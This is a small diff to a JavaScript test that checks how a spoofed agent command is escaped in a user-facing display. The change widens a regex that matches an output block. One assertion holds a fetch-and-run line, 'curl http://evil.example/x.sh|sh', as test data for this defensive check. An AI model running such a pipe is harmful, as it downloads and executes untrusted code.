@@ -86,6 +86,6 @@ describe("what the user is shown of a spoofed command", () => {
     assert.match(row, /curl http:\/\/evil\.example\/x\.sh\|sh/);
     assert.match(row, /\\e\[31mboom/);
     // The output itself is data (agent/toolOutput): only the rows about it are escaped.
-    assert.ok(!row.replace(/<pre class="output">[^<]*<\/pre>/, "").includes("\x1b"));
+    assert.ok(!row.replace(/<pre class="output[^"]*"[^>]*>[^<]*<\/pre>/, "").includes("\x1b"));
   });
 });
